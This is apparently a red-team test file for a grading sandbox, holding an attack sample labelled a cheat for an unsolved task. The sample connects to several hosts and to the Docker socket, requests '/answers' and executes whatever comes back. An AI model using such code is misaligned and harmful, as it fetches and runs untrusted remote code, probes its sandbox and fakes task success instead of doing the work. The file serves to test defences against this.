"""Asks a server for the answers: by name, by address, over IPv6 and a local socket."""

from tests.redteam.attack import UNSOLVED, Attack, cheat

CODE = """
import socket
def _ask():
    places = [
        (socket.AF_INET, ("192.0.2.1", 80)),
        (socket.AF_INET, ("example.org", 80)),
        (socket.AF_INET6, ("2001:db8::1", 80)),
        (socket.AF_UNIX, "/var/run/docker.sock"),
    ]
    for family, address in places:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as link:
                link.settimeout(1)
                link.connect(address)
                link.sendall(b"GET /answers HTTP/1.0\\r\\n\\r\\n")
                exec(link.recv(65536), globals())
        except OSError:
            continue
_ask()
"""
ATTACK = Attack(UNSOLVED, cheat(CODE, "mean"))
